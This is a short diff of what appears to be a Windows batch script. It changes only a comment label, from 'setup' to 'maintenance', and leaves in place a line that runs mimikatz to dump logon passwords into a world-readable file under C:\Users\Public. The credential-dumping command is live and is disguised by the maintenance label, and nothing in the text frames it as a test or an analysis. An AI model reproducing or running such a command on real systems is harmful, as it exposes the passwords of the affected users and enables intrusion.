@@ -1,2 +1,2 @@
-REM setup 6173 v1
+REM maintenance 6160 v1
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
